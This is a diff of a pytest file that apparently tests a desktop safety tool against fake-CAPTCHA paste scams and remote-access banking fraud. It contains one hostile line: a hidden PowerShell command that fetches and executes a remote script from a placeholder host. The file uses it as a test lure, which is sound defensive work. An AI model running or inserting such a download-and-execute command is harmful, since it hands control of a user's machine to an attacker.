@@ -2,11 +2,7 @@
 
 from __future__ import annotations
 
-import shutil
-import subprocess
-from collections.abc import Callable, Iterator
-from contextlib import ExitStack
-from pathlib import Path
+from collections.abc import Callable
 
 import pytest
 
@@ -22,20 +18,6 @@ pytestmark = [
 ]
 
 COMMAND = "powershell -w hidden -c iex (iwr http://0x0.invalid/a.ps1)"
-Run = Callable[..., object]
-
-
-@pytest.fixture
-def run(tmp_path: Path) -> Iterator[Run]:
-    """Starts a program under another name; it is ended."""
-    with ExitStack() as ends:
-
-        def start(source: str, name: str, *options: str) -> None:
-            shutil.copy(source, tmp_path / name)
-            one = subprocess.Popen([tmp_path / name, *options])
-            ends.callback(lambda: (one.kill(), one.wait()))
-
-        yield start
 
 
 def wait_read(stage: Stage) -> None:
@@ -54,7 +36,7 @@ def read_page(stage: Stage, title: str, text: str = "") -> None:
     assert wait_for(lambda: title in stage.desktop.title(stage.windows()[0].id), 20), "not loaded"
 
 
-def test_a_window_for_commands_after_a_command_was_copied(stage: Stage, run: Run) -> None:
+def test_a_window_for_commands_after_a_command_was_copied(stage: Stage, run: Callable[..., None]) -> None:
     wait_read(stage)
     read_page(stage, "ロボットではありません", COMMAND)
     press("ctrl+a", "ctrl+c")
@@ -64,7 +46,7 @@ def test_a_window_for_commands_after_a_command_was_copied(stage: Stage, run: Run
     assert stage.reads("はりつけないでください")
 
 
-def test_a_banks_page_while_somebody_operates_the_pc(stage: Stage, run: Run) -> None:
+def test_a_banks_page_while_somebody_operates_the_pc(stage: Stage, run: Callable[..., None]) -> None:
     wait_read(stage)
     run("/bin/sleep", "teamviewer_desktop", "120")
     read_page(stage, "さくら銀行 ログイン")
